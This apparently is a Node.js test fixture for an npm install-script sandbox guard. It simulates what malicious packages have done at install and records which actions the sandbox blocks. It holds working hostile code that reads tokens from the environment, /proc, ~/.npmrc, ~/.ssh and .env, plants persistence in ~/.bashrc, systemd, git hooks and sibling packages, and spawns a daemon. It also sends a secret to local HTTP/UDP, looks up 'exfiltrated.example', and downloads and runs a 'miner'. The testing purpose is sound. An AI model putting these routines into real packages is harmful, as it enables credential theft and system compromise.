// What published malware has done at install. It writes down how far it came: result.json in its own folder.
const { spawn, spawnSync } = require('node:child_process');
const { lookup } = require('node:dns');
const { createSocket } = require('node:dgram');
const fs = require('node:fs');
const { get } = require('node:http');
const { homedir } = require('node:os');
const { join } = require('node:path');

const { project, cache, http, udp, secret } = require('./target.json');
const result = {};

/** What came of it: true, or the error's code. */
function attempt(name, act) {
  try {
    result[name] = act();
  } catch (error) {
    result[name] = error.code ?? String(error);
  }
}

const append = (path) => {
  fs.appendFileSync(path, '\n// owned\n');
  return true;
};

attempt('token in the environment', () => Object.values(process.env).includes(secret));
attempt('token of another process', () => {
  for (const name of fs.readdirSync('/proc')) {
    try {
      if (/^\d+$/.test(name) && fs.readFileSync(`/proc/${name}/environ`, 'utf8').includes(secret)) return true;
    } catch {}
  }
  return false;
});
attempt('~/.npmrc', () => fs.readFileSync(join(homedir(), '.npmrc'), 'utf8').includes(secret));
attempt('~/.ssh', () => fs.readdirSync(join(homedir(), '.ssh')).length > 0);
attempt('project .env', () => fs.readFileSync(join(project, '.env'), 'utf8').includes(secret));
attempt('~/.bashrc', () => append(join(homedir(), '.bashrc')));
attempt('~/.config/systemd', () => {
  fs.mkdirSync(join(homedir(), '.config/systemd/user'), { recursive: true });
  return append(join(homedir(), '.config/systemd/user/x.service'));
});
attempt('git hook', () => append(join(project, '.git/hooks/pre-commit')));
attempt('sibling', () => append(join(project, 'node_modules/victim/index.js')));
attempt('sibling, moved', () => {
  fs.renameSync(join(project, 'node_modules/victim'), join(project, 'node_modules/was-victim'));
  fs.renameSync(join(project, 'node_modules/was-victim'), join(project, 'node_modules/victim'));
  return true;
});
attempt('sibling, by a link', () => {
  fs.symlinkSync('../victim/index.js', 'link');
  return append('link');
});
attempt('command', () => append(join(project, 'node_modules/.bin/tsc')));
attempt("project's package.json", () => append(join(project, 'README.md')));
attempt("npm's cache", () => append(join(cache, 'planted')));
attempt("the guard's log", () => {
  fs.mkdirSync(join(project, 'node_modules/.cache/holdfast-guard'), { recursive: true });
  return append(join(project, 'node_modules/.cache/holdfast-guard/x.jsonl'));
});
attempt('own folder', () => {
  fs.writeFileSync('built', '');
  return true;
});
attempt('daemon', () => {
  const beat = `setInterval(() => require('node:fs').writeFileSync('beat', String(Date.now())), 20)`;
  const child = spawn(process.execPath, ['-e', beat], { detached: true, stdio: 'ignore' });
  child.unref();
  while (!fs.existsSync('beat')) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 5);
  fs.writeFileSync('daemon', String(child.pid));
  return true;
});

const later = [];
const wait = (name, start) =>
  later.push(
    new Promise((resolve) => {
      const done = (value) => {
        result[name] = value;
        resolve();
      };
      try {
        start(done);
      } catch (error) {
        done(error.code);
      }
    }),
  );

wait('HTTP', (done) =>
  get({ port: http, host: '127.0.0.1', path: `/${encodeURIComponent(secret)}` }, (response) => {
    response.resume().on('end', () => done(true));
  }).on('error', (error) => done(error.code)),
);
wait('DNS', (done) => {
  const socket = createSocket('udp4').on('error', (error) => done(error.code));
  socket.send(secret, udp, '127.0.0.1', (error) => {
    socket.close();
    done(error ? error.code : true);
  });
});
wait('name look-up', (done) => lookup('exfiltrated.example', (error) => done(error?.code ?? true)));
wait('miner', (done) =>
  get({ port: http, host: '127.0.0.1', path: '/miner' }, (response) => {
    let program = '';
    response.on('data', (chunk) => {
      program += chunk;
    });
    response.on('end', () => {
      fs.writeFileSync('miner', program, { mode: 0o755 });
      done(spawnSync('./miner').status === 0);
    });
  }).on('error', (error) => done(error.code)),
);

Promise.all(later).then(() => {
  fs.writeFileSync('result.json', JSON.stringify(result));
  process.exit(0);
});
